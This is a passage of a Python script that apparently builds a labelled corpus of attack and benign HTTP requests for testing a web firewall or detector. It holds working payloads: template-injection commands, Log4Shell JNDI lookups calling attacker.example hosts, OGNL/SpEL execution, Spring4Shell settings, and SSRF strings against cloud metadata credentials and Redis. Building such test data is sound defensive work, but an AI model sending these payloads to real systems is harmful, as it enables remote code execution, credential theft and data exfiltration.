        ".exec(\"id\")", "#set($x=7*7)${x}", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
        "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('whoami'))$p.waitFor()",
        "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
        "$request.getClass().getClassLoader()", "#set($s=\"\")$s.class.forName(\"java.lang.System\").getenv()",
    ],
    "ssti-thymeleaf-spel": [
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "${T(java.lang.System).getenv()}", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id')"
        ".getInputStream()).next()}__::.x", "[[${T(java.lang.Runtime).getRuntime().exec('whoami')}]]",
        "__|$${#request.getClass()}|__::.x", "${#rt=@java.lang.Runtime@getRuntime(),#rt.exec('id')}",
        "#{T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
        ".getInputStream(),T(java.nio.charset.Charset).defaultCharset())}",
    ],
    "ssti-erb": [
        "<%= `id` %>", "<%= system('whoami') %>", "<%= IO.popen('id').readlines() %>",
        "<%= File.read('/etc/passwd') %>",
        "<%= Dir.entries('/') %>", "<%= %x(uname -a) %>", "<%= Kernel.exec('id') %>", "<%= ENV.to_h %>",
        "#{`id`}", "<%= open('|id').read %>",
    ],
    "ssti-smarty": [
        "{system('id')}", "{php}system('id');{/php}", "{$smarty.version}", "{Smarty_Internal_Write_File::writeFile("
        "$SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}", "{if system('id')}{/if}",
        "{$smarty.template_object->smarty->_getSmartyObj()->display('string:{system(\"id\")}')}",
        "{passthru(\"cat /etc/passwd\")}", "{literal}<script>{/literal}{system('whoami')}",
    ],
    "ssti-mako": [
        "${__import__('os').popen('id').read()}", "<% import os; x=os.popen('id').read() %>${x}",
        "${self.module.cache.util.os.system('id')}", "<%! import subprocess %>${subprocess.check_output(['id'])}",
        "${self.template.module.runtime.util.os.popen('whoami').read()}", "${open('/etc/passwd').read()}",
        "% for a in (self.module.cache.util.os.system('id'),):\n${a}\n% endfor",
    ],
    "ssti-handlebars": [
        "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
        "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "
        "\"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with "
        "(string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
        "{{#with this as |o|}}{{lookup o 'constructor'}}{{/with}}",
        "{{this.constructor.constructor('return process')()}}",
        "{{#each (lookup this '__proto__')}}{{@key}}{{/each}}", "{{lookup (lookup this 'constructor') 'name'}}",
        "{{#if (lookup this.constructor 'constructor')}}x{{/if}}",
    ],
    "ssti-pug": [
        "#{root.process.mainModule.require('child_process').execSync('id')}",
        "- var x = global.process.mainModule.require('child_process').execSync('id').toString()\n= x",
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
        ".exec('id')}()}", "p #{7*7}", "#{global.process.env}", "- require('child_process').exec('id')",
        "= global.process.mainModule.require('fs').readFileSync('/etc/passwd')",
    ],
    "ssti-tornado-django": [
        "{% import os %}{{ os.popen('id').read() }}", "{{handler.settings}}", "{% debug %}",
        "{{ settings.SECRET_KEY }}",
        "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{e.user.get_username}}{% endfor %}",
        "{{ request.environ }}",
    ],
}


# ---------------------------------------------------------------------------------------------------------------
# Java: JNDI, OGNL, EL, SpEL, class-loader binding

JAVA: dict[str, list[str]] = {
    "java-jndi-probe": [
        "${jndi:ldap://203.0.113.50:1389/a}", "${jndi:ldaps://oob.attacker.example/x}", "${jndi:rmi://203.0.113.50/o}",
        "${jndi:dns://oob.attacker.example/p}", "${jndi:iiop://203.0.113.50/x}", "${jndi:nis://oob.attacker.example/x}",
        "${jndi:nds://oob.attacker.example/x}", "${jndi:corba://203.0.113.50/x}",
        "${jndi:http://oob.attacker.example/x}",
        "${jndi:ldap://${env:USER}.${sys:java.version}.oob.attacker.example/a}",
    ],
    "java-jndi-obfuscation": [
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://oob.attacker.example/a}",
        "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:r}mi://oob.attacker.example/a}",
        "${${upper:j}ndi:${upper:l}dap://oob.attacker.example/a}", "${j${::-n}di:ldap://oob.attacker.example/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//oob.attacker.example/a}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://oob.attacker.example/a}",
        "${jnd${upper:ı}:ldap://oob.attacker.example/a}", "${${k8s:k5:-J}${k8s:k5:-NDI}:ldap://oob.attacker.example/a}",
        "%24%7Bjndi%3Aldap%3A%2F%2Foob.attacker.example%2Fa%7D", "${${main:\\k5:-Jn}${main:\\k5:-di}:ldap://"
        "oob.attacker.example/a}", "$\\{jndi:ldap://oob.attacker.example/a}",
    ],
    "java-ognl": [
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess"
        "=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container."
        "getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)))).(#cmd='id').(#p=new java.lang.ProcessBuilder"
        "({'/bin/sh','-c',#cmd})).(#p.start())}",
        "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream()"
        "))}", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", "${#_memberAccess[\"allowStatic"
        "MethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id')}", "%{1337*1337}",
        "(#context[\"xwork.MethodAccessor.denyMethodExecution\"]=new java.lang.Boolean(false))",
        "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "redirect:${#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse').getWriter().println(1)}",
        "%25%7B%23a%3D%40java.lang.Runtime%40getRuntime().exec('id')%7D",
    ],
    "java-el-injection": [
        "${applicationScope}", "${pageContext.request.serverName}", "${facesContext.externalContext.request}",
        "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
        "#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('whoami')}", "${sessionScope}",
        "${header['user-agent']}", "${initParam}", "#{session.setAttribute('x', 'y')}",
        "${pageContext.servletContext.getResource('/WEB-INF/web.xml')}",
    ],
    "java-spel-injection": [
        "T(java.lang.Runtime).getRuntime().exec('id')", "#{T(java.lang.Runtime).getRuntime().exec('whoami')}",
        "new java.lang.ProcessBuilder({'id'}).start()", "T(java.lang.System).getProperty('user.dir')",
        "#{new java.util.Scanner(new java.net.URL('http://oob.attacker.example/').openStream()).next()}",
        "T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec('id')"
        ".getInputStream())", "#this.getClass().forName('java.lang.Runtime')", "T (java.lang.Runtime).getRuntime()",
    ],
    "java-spring4shell": [
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
        "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
        "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
        "class.module.classLoader.URLs[0]=0", "class['module']['classLoader']['resources']['context']",
        "class.classLoader.resources.dirContext.docBase=/", "spring.cloud.function.routing-expression="
        "T(java.lang.Runtime).getRuntime().exec('id')",
    ],
}


# ---------------------------------------------------------------------------------------------------------------
# SSRF: address forms

SSRF: dict[str, list[str]] = {
    "ssrf-decimal-ip": [
        "http://2130706433/", "http://2852039166/latest/meta-data/", "http://3232235777/admin",
        "http://167772161:8080/", "http://2130706433:6379/", "http://0/",
    ],
    "ssrf-octal-ip": [
        "http://0177.0.0.1/", "http://0177.0000.0000.0001/server-status", "http://0251.0376.0251.0376/latest/",
        "http://017700000001/", "http://00000177.0.0.01:8080/", "http://0300.0250.0.1/",
    ],
    "ssrf-hex-ip": [
        "http://0x7f000001/", "http://0x7f.0x0.0x0.0x1/", "http://0xa9fea9fe/latest/meta-data/",
        "http://0xa9.0xfe.0xa9.0xfe/", "http://0x7f.1/", "http://0xc0a80001/",
    ],
    "ssrf-ipv6-mapped": [
        "http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://[::1]:6379/", "http://[::]:22/",
        "http://[fd00:ec2::254]/latest/meta-data/",
    ],
    "ssrf-short-form": [
        "http://127.1/", "http://127.0.1/admin", "http://10.1/", "http://169.254.43518/", "http://0.0.0.0:9200/",
        "http://127.000.000.001/", "http://①②⑦.⓪.⓪.①/", "http://127。0。0。1/",
    ],
    "ssrf-dns-rebinding": [
        "http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/", "http://127.0.0.1.nip.io/",
        "http://169.254.169.254.nip.io/latest/", "http://localtest.me/", "http://a9fea9fe.c0a80001.rbndr.us/",
        "http://make-127-0-0-1-rr.1u.ms/", "http://customer1.app.localhost.my.company.127.0.0.1.nip.io/",
        "http://spoofed.oob.attacker.example/",
    ],
    "ssrf-url-confusion": [
        "http://trusted.example.com@127.0.0.1/", "http://127.0.0.1#@trusted.example.com/",
        "http://trusted.example.com.127.0.0.1.nip.io/", "http://127.0.0.1\\@trusted.example.com/",
        "http://trusted.example.com%2f@169.254.169.254/", "http://169.254.169.254%23@trusted.example.com/",
        "https:/\\127.0.0.1/", "http://trusted.example.com:80@127.0.0.1:6379/",
    ],
    "ssrf-cloud-metadata": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/user-data",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://100.100.100.200/latest/meta-data/",
        "http://169.254.170.2/v2/credentials/", "http://metadata/computeMetadata/v1/",
    ],
    "ssrf-gopher": [
        "gopher://127.0.0.1:6379/_*1%0d%0a%248%0d%0aflushall%0d%0a*3%0d%0a%243%0d%0aset%0d%0a%241%0d%0a1%0d%0a"
        "%2434%0d%0a%0a%0a*/1%20*%20*%20*%20*%20id%0a%0a%0a%0d%0a",
        "gopher://127.0.0.1:25/_HELO%20localhost%0d%0aMAIL%20FROM%3A%3Ca%40b.c%3E%0d%0a",
        "gopher://127.0.0.1:9000/_%01%01%00%01%00%08%00%00%00%01%00%00%00%00%00%00",
        "gopher://127.0.0.1:3306/_%a3%00%00%01%85%a6%ff%01%00%00%00%01%21", "gopher://localhost:11211/_stats%0d%0a",
        "gopher://[::1]:6379/_INFO%0d%0a", "gopher://0x7f000001:80/_GET%20/admin%20HTTP/1.1%0d%0aHost:%20x%0d%0a",
    ],
    "ssrf-dict": [
        "dict://127.0.0.1:6379/info", "dict://127.0.0.1:11211/stats", "dict://127.0.0.1:6379/config:set:dir:/tmp/",
        "dict://localhost:22/", "dict://[::1]:6379/info", "dict://0x7f000001:3306/",
    ],
    "ssrf-other-schemes": [
        "file:///etc/passwd", "ldap://127.0.0.1:389/%0astats%0aquit", "tftp://203.0.113.50/x", "jar:http://"
        "127.0.0.1:8080/x.jar!/", "netdoc:///etc/passwd", "sftp://203.0.113.50:11111/",
    ],
}


def all_items() -> list[Item]:
    items = sqli_items()
    for sub, payloads in XSS.items():
        items += [Item("xss", sub, p, _is_wire(sub, p)) for p in payloads]
    items += cmdi_items()
    items += lfi_items()
    for cat, table in (("php", PHP), ("rfi", RFI), ("ssti", SSTI), ("java", JAVA), ("generic", SSRF)):
        for sub, payloads in table.items():
            items += [Item(cat, sub, p, _is_wire(sub, p)) for p in payloads]
    return items


# ---------------------------------------------------------------------------------------------------------------
# Placements

PLACES = ["query", "form", "json", "oauth-form", "cookie", "header:User-Agent", "header:Referer",
          "header:X-Forwarded-For", "param-name", "path"]
PARAMS = {
    "sqli": ["id", "q", "sort", "user_id", "filter", "order"], "xss": ["q", "name", "callback", "message", "next"],
    "rce": ["host", "ip", "filename", "domain", "target"], "lfi": ["file", "path", "template", "page", "doc"],
    "rfi": ["page", "include", "url", "template", "src"], "php": ["file", "page", "data", "view", "q"],
    "ssti": ["name", "greeting", "template", "q", "subject"], "java": ["q", "lang", "name", "redirect", "action"],
    "generic": ["url", "webhook", "callback", "avatar_url", "feed", "image_url"],
}
JSON_FIELDS = {
    "sqli": ["id", "name", "department", "sort", "manager_id"], "xss": ["name", "bio", "title", "website"],
    "rce": ["hostname", "filename", "ping_target", "domain"], "lfi": ["avatar_path", "template", "file", "locale"],
    "rfi": ["template_url", "include", "avatar_url"], "php": ["file", "template", "data", "bio"],
    "ssti": ["name", "greeting", "bio", "title", "email_subject"], "java": ["name", "title", "locale", "bio"],
    "generic": ["avatar_url", "webhook_url", "website", "feed_url"],
}
OAUTH_FIELDS = {
    "sqli": ["client_id", "code", "scope", "state"], "xss": ["state", "redirect_uri", "scope"],
    "rfi": ["redirect_uri"], "generic": ["redirect_uri"], "lfi": ["code", "client_id", "redirect_uri"],
}
COOKIE_NAMES = ["recent_search", "prefs", "lang", "theme", "last_view", "tracking_id"]
URL_SAFE = {"sqli": "()*,'=:", "lfi": ":/", "rfi": ":/", "php": ":/", "generic": ":/"}
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.9", "es-ES,es;q=0.8,en;q=0.5"]


def _ctl(s: str) -> str:
    """A header value: control characters percent-encoded (a header cannot carry them)."""
    return re.sub(r"[\x00-\x1f\x7f]", lambda m: f"%{ord(m.group()):02X}", s)


def _wire_url(s: str, extra: str = "") -> str:
    """A wire-form payload made sendable in a URL or form body: only what cannot go raw is encoded."""
    out = []
    for c in s:
        if ord(c) > 0x7E or ord(c) < 0x21 or c in "#&" + extra:
            out.append(urllib.parse.quote(c, safe=""))
        else:
            out.append(c)
    return "".join(out)


def _value(item: Item, form: bool = False) -> str:
    if item.wire:
        return _wire_url(item.payload)
    safe = URL_SAFE.get(item.cat, "")
    if form:
        return urllib.parse.quote_plus(item.payload, safe=safe)
    return urllib.parse.quote(item.payload, safe=safe)


def _pick(table: dict[str, list[str]], cat: str, i: int, default: list[str]) -> str:
    names = table.get(cat, default)
    return names[i % len(names)]


def _headers(rng: random.Random, accept: str = ACCEPT_HTML, content_type: str = "") -> dict[str, str]:
    h = {"User-Agent": rng.choice(BROWSER_UAS), "Accept": accept, "Accept-Language": rng.choice(LANGS),
         "Accept-Encoding": "gzip, deflate, br",
         "Cookie": f"session={_token(rng)}; cookie_consent=necessary%2Canalytics"}
    if content_type:
        h["Content-Type"] = content_type
    return h


def _token(rng: random.Random, n: int = 24) -> str:
    return base64.urlsafe_b64encode(rng.randbytes(n)).decode().rstrip("=")


def luanginx_params(rng: random.Random, n: int = 500) -> str:
    """The parameter flood a Lua-nginx bypass puts before the real parameter."""
    return "&".join(f"{_rand_word(rng, 4, 4).lower()}{k}={rng.randint(0, 9)}" for k in range(n))


def _oauth_fields(rng: random.Random) -> list[tuple[str, str]]:
    return [("grant_type", "authorization_code"), ("code", _token(rng, 18)),
            ("redirect_uri", "https://app.example.com/oauth/callback"), ("client_id", "web-console"),
            ("code_verifier", _token(rng, 40)), ("state", _token(rng, 12))]


def _form_body(fields: list[tuple[str, str]], target: str, value: str) -> str:
    """Fields form-encoded, the one named `target` (added when absent) carrying an already encoded value."""
    parts, done = [], False
    for k, v in fields:
        if k == target:
            parts.append(f"{k}={value}")
            done = True
        else:
            parts.append(urllib.parse.urlencode([(k, v)]))
    if not done:
        parts.append(f"{target}={value}")
    return "&".join(parts)


def _header_value(item: Item, header: str, rng: random.Random) -> str:
    p = _ctl(item.payload)
    if item.cat == "sqli" and p.startswith("1"):
        if header == "User-Agent":
            return rng.choice(BROWSER_UAS) + p[1:]
        if header == "Referer":
            return "https://app.example.com/admin/users?id=" + p
        return "203.0.113.77" + p[1:]
    return p


def place(item: Item, where: str, i: int, rng: random.Random, flood: str = "") -> dict[str, Any]:
    """One request carrying `item` at `where` (flood: the parameter flood put before it, if any)."""
    cat = item.cat
    lead = flood + "&" if flood else ""
    page = str(1 + i % 7)
    if where == "query":
        name = _pick(PARAMS, cat, i, ["q"])
        paging = "offset" if name == "page" else "page"
        qs = [f"{name}={_value(item)}", f"{paging}={page}", f"per_page={(20, 50, 100)[i % 3]}"]
        if i % 2:
            qs.reverse()
        return {"method": "GET", "uri": "/api/users?" + lead + "&".join(qs), "body": "",
                "headers": _headers(rng, "application/json")}
    if where == "form":
        name = "q" if i % 3 else _pick(PARAMS, cat, i, ["q"])
        body = lead + f"csrf_token={_token(rng)}&{name}={_value(item, form=True)}"
        return {"method": "POST", "uri": "/admin/users/search", "body": body,
                "headers": {**_headers(rng, content_type="application/x-www-form-urlencoded"),
                            "Origin": "https://app.example.com", "Referer": "https://app.example.com/admin/users"}}
    if where == "json":
        field = _pick(JSON_FIELDS, cat, i, ["name"])
        doc = {"name": "Ann Lee", "email": f"ann.lee{i}@example.com", "department": "Sales", field: item.payload}
        return {"method": "POST", "uri": "/api/users", "body": json.dumps(doc, ensure_ascii=False),
                "headers": _headers(rng, "application/json", "application/json")}
    if where == "oauth-form":
        field = _pick(OAUTH_FIELDS, cat, i, ["code", "state", "scope", "client_id"])
        body = lead + _form_body(_oauth_fields(rng), field, _value(item, form=True))
        return {"method": "POST", "uri": "/oauth/token", "body": body,
                "headers": {"User-Agent": rng.choice(BROWSER_UAS), "Accept": "application/json",
                            "Content-Type": "application/x-www-form-urlencoded"}}
    if where == "cookie":
        value = _wire_url(item.payload, ";,\"\\") if item.wire else \
            urllib.parse.quote(item.payload, safe="'()*!:=@$/")
        headers = _headers(rng, "application/json")
        headers["Cookie"] += f"; {COOKIE_NAMES[i % len(COOKIE_NAMES)]}={value}"
        return {"method": "GET", "uri": f"/api/users?page={page}", "body": "", "headers": headers}
    if where.startswith("header:"):
        header = where.split(":", 1)[1]
        headers = _headers(rng, "application/json")
        headers[header] = _header_value(item, header, rng)
        return {"method": "GET", "uri": f"/api/users?page={page}", "body": "", "headers": headers}
    if where == "param-name":
        enc = _wire_url(item.payload, "=") if item.wire else urllib.parse.quote(item.payload, safe="")
        if i % 2 or flood:
            return {"method": "GET", "uri": f"/api/users?{lead}{enc}=1&page={page}", "body": "",
                    "headers": _headers(rng, "application/json")}
        return {"method": "POST", "uri": "/admin/users/search", "body": f"csrf_token={_token(rng)}&{enc}=1",
                "headers": _headers(rng, content_type="application/x-www-form-urlencoded")}
    enc = _wire_url(item.payload, "?") if item.wire else urllib.parse.quote(item.payload, safe="'()*!,;:=@$~+")
    return {"method": "GET", "uri": "/api/users/" + enc, "body": "", "headers": _headers(rng, "application/json")}


FLOOD_PLACES = ["query", "form", "oauth-form", "param-name"]


def attacks() -> Iterator[dict[str, Any]]:
    rng = random.Random(f"{NAME}-attacks")
    counters: dict[str, int] = {}
    slot = 0
    for item in all_items():
        n = counters[item.cat] = counters.get(item.cat, 0) + 1
        if item.sub == f"sqli-tamper-{LUA_NGINX}":
            where = FLOOD_PLACES[n % len(FLOOD_PLACES)]
            rec = place(item, where, n, rng, flood=luanginx_params(rng))
        else:
            where = PLACES[slot % len(PLACES)]
            slot += 1
            rec = place(item, where, n, rng)
        yield {**rec, "id": f"{NAME}-{item.cat}-{n:04d}", "category": item.cat, "sub": item.sub,
               "placement": where, "payload": item.payload}


# ---------------------------------------------------------------------------------------------------------------
# Benign: what real users type into the same inputs

NAMES = [
    "Siobhán O'Brien", "D'Angelo Russell", "Renée O'Connor-Smith", "José María Núñez", "Nguyễn Thị Minh Khai",
    "Zoë d'Arcy", "Jean-Luc Picard", "Mary-Kate O'Hara", "Ólafur Arnalds", "Antonín Dvořák", "Björk Guðmundsdóttir",
    "Ngozi Okonjo-Iweala", "Conan O'Brien", "Miles O'Keeffe", "Dara Ó Briain", "Chloë Grace Moretz",
    "Jo'Anne N'Diaye", "Seán Mac Diarmada", "Lupita Nyong'o", "Rock 'n' Roll Bakery Ltd.", "Françoise d'Eaubonne",
    "Marc-André ter Stegen", "Ruth Bader-Ginsburg", "Li Wei (李伟)", "Oğuz Atay", "Anna-Lena O'Neill",
    "Patrick \"Pat\" Murphy", "Karl-Heinz Rummenigge", "Tiago d'Almeida", "O'Sullivan, Ronnie",
]
SEARCHES = [
    "\"product manager\" berlin", "title:\"VP Sales\" AND location:Berlin", "name:smith OR name:smyth",
    "engineer -intern", "role:admin -status:suspended", "created:>2024-01-01", "email:*@example.com",
    "dept = \"R&D\"", "salary >= 50000", "O'Reilly", "it's complicated", "\"select committee\" members",
    "union representative", "drop-off point", "table tennis club", "sleep clinic", "benchmark results 2024",
    "order by date please", "5'10\" tall", "size 10 1/2", "C# developer", "C++ OR Rust", "node.js AND react",
    "AT&T", "Procter & Gamble", "50% off", "#onboarding", "@ann.lee", "a < b", "x > 5", "price < 100 & rating > 4",
    "path = \"/usr/local/bin\"", "script writer", "alert management", "javascript developer", "iframe embed",
    "cookie policy", "\"Ann O'Neil\"", "team:(sales OR marketing)", "last_login:[2024-01-01 TO 2024-06-30]",
    "tags:\"on-call\"", "(design OR ux) AND senior", "name:O*", "\"New York\" -manager", "ruby on rails",
    "exec assistant", "chief of staff", "data & analytics", "R&D; QA", "what's new?", "¿Dónde está?",
    "São Paulo office", "Zürich", "the \"fix\" didn't work", "1-800-FLOWERS", "PO #4521", "v2.3.1 release",
    "Q3/Q4 targets", "50/50 split", "100% remote", "~/Documents", "self-service", "admin users", "select all",
]
ADDRESSES = [
    "10 Downing St, London SW1A 2AA", "1600 Amphitheatre Pkwy, Mountain View, CA 94043", "Apt #4B, 221B Baker Street",
    "Rue de l'Église 5, 1000 Bruxelles", "Hauptstraße 1; 10115 Berlin", "P.O. Box 123, Anchorage, AK 99501",
    "c/o Smith & Sons, Unit 7/12 George St, Sydney NSW 2000", "1-2-3 Shibuya, Shibuya-ku, Tokyo 150-0002",
    "Calle de Alcalá 42, 3º Izq., 28014 Madrid", "Suite 500, 1 Infinite Loop, Cupertino CA",
    "Flat 3, O'Connell St, Dublin 1",
    "Piazza dell'Unità d'Italia, Trieste", "350 Fifth Avenue (34th St entrance), New York, NY 10118",
    "Bldg. 7, Floor -1, Room 1.12", "Av. Paulista, 1578 - Bela Vista, São Paulo - SP, 01310-200",
]
FILES = [
    "Q3 report (final) v2.xlsx", "résumé_2024.pdf", "IMG_2041.HEIC", "budget-2025_draft#3.xlsx",
    "notes; meeting 1&2.docx", "C:\\Users\\ann\\Documents\\cv.docx", "/home/ann/Downloads/photo.jpg",
    "invoice_0042 (copy).pdf", "team-photo [2024].png", "O'Brien - contract.pdf", "logo@2x.png", "data.tar.gz",
    "script.py", "index.html", "setup.exe",
]
URLS = [
    "https://www.example.com/careers?team=eng&loc=berlin", "https://github.com/acme/api/pull/1234#issuecomment-99",
    "https://docs.python.org/3/library/os.path.html", "https://maps.google.com/?q=10+Downing+St,+London",
    "https://en.wikipedia.org/wiki/O%27Brien", "https://example.org/search?q=%22exact+phrase%22",
    "http://localhost:8080/health", "https://s3.amazonaws.com/acme-bucket/file%20name.pdf",
    "https://www.linkedin.com/in/ann-lee-1234/", "https://calendly.com/ann-lee/30min?month=2024-07",
    "https://twitter.com/search?q=%23devops&src=typed_query", "https://news.ycombinator.com/item?id=40000000",
    "https://stackoverflow.com/questions/12345/how-to-escape-quotes-in-sql", "https://example.com/a/b/../c",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s", "https://ann.example.dev/blog/2024/05/select-vs-union",
]
CHAT = [
    "`SELECT name FROM users WHERE id = 42;` is slow on staging, any index ideas?",
    "try `grep -r 'TODO' src/ | wc -l` to count them", "in jinja you can write {{ user.name | title }} for that",
    "the email template uses ${firstName} placeholders, don't rename them",
    "`<img src=\"logo.png\" alt=\"Logo\">` was missing the alt text, fixed",
    "run `curl -s https://api.example.com/health | jq .status` and paste the output",
    "`docker run -v $(pwd):/app node:20 npm test` works locally for me",
    "for the CSVs: `for f in *.csv; do wc -l \"$f\"; done`", "Handlebars partial: {{#each users}}{{name}}{{/each}}",
    "ERB view has <%= @user.name %> in the header", "Thymeleaf: th:text=\"${user.name}\" shows nothing, why?",
    "log4j config writes to ${sys:logdir}/app.log", "`php artisan migrate --force` on prod, ok?",
    "the union of both lists is what we want, then order by name", "O'Brien's PR fixes the quote escaping",
    "use `WHERE name LIKE 'O''Brien%'` with the doubled quote", "sleep well, see you tomorrow!",
    "the benchmark ran 5 times, median 1.2s", "please don't drop the table tennis booking again :)",
    "`git log --oneline | head -n 5`", "it's in ~/projects/api/config/.env.example",
    "the path is C:\\Program Files\\Acme\\bin", "JS: `const total = items.reduce((a, b) => a + b, 0);`",
    "Python: `print(f\"{name!r} has {count} items\")`", "Go: `if err != nil { return err }`",
    "`kubectl get pods -n prod | grep api`", "alert fired at 03:12, on-call acked it",
    "who owns the onload handler in the dashboard?", "the iframe embed for the status page is blocked by CSP",
    "the script tag order matters for the analytics snippet", "I'll select the winners & announce them Friday",
    "exec summary is in the drive; union rep meeting at 3", "we hit 100% CPU when the cron ran at 0 */6 * * *",
    "regex for emails: ^[^@\\s]+@[^@\\s]+$", "ping me on the thread, not DM", "`ls -la /var/log/nginx` shows the logs",
    "the file:// links don't work in Chrome, use https", "template literal: `Hello ${user}!`",
    "math: 7*7 = 49 and 1337*1337 = 1787569", "cost = price * qty; tax = cost * 0.2",
    "Bob's 'quick fix' broke the build; reverting", "meeting notes: 1) hiring 2) Q3 OKRs 3) AOB",
    "<3 thanks for the help!", "a -> b -> c pipeline looks good", "see the #incident channel",
    "the class loader warning in Tomcat is harmless", "jndi lookups are disabled since 2.17, confirmed",
    "the metadata endpoint on 169.254.169.254 is blocked by the firewall, good",
    "can someone review my PR? it's the one with the IF/CASE refactor",
]
OAUTH_SCOPES = ["openid profile email", "users:read users:write", "read", "openid offline_access",
                "admin:org team:read", "https://www.googleapis.com/auth/userinfo.email"]
BENIGN_UAS = BROWSER_UAS + [
    "curl/8.5.0", "python-requests/2.32.3", "okhttp/4.12.0", "Go-http-client/2.0", "PostmanRuntime/7.39.0",
    "Java/17.0.11", "axios/1.7.2", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36", "AcmeApp/4.2.1 (iPhone; iOS 17.5; Scale/3.00)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.38.125 "
    "Chrome/124.0.6367.243 Electron/30.1.0 Safari/537.36", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook "
    "16.0.17726; Pro)", "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 7 Build/AP2A.240605.024)",
    "Apache-HttpClient/4.5.14 (Java/17.0.2)", "Wget/1.21.4", "aws-sdk-js/3.600.0 ua/2.0 os/linux lang/js",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 16_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0 Mobile/15E148 "
    "Safari/604.1", "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.289 Version/12.00",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "UptimeRobot/2.0",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", "Prometheus/2.53.0",
    "kube-probe/1.30", "ELB-HealthChecker/2.0", "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
]
REFERERS = [
    "https://www.google.com/", "https://www.google.com/search?q=acme+users+o%27brien&hl=en",
    "https://app.example.com/admin/users/search?q=%22product+manager%22+berlin",
    "https://app.example.com/api/docs#/users/get_users", "https://duckduckgo.com/?q=acme+api+%22rate+limit%22&ia=web",
    "https://www.bing.com/search?q=select+committee+members&form=QBLH",
    "https://app.example.com/me/settings?tab=profile",
    "https://slack.com/", "https://acme.slack.com/archives/C0123456789/p1719000000000100",
    "https://github.com/acme/api/issues?q=is%3Aopen+label%3Abug", "https://t.co/AbCdEf123",
    "https://mail.google.com/mail/u/0/#inbox/FMfcgzGxyz", "https://app.example.com/admin/users?sort=-created_at&page=3",
    "https://www.linkedin.com/feed/", "https://app.example.com/login?next=%2Fadmin%2Fusers",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fapp.example.com%2F&h=AT0x", "android-app://com.slack/",
    "https://app.example.com/search?q=it%27s+complicated",
    "https://www.example.org/blog/2024/05/?utm_source=newsletter",
    "https://app.example.com/admin/users/search?q=R%26D+%22QA%22",
]
PARAM_NAMES = [
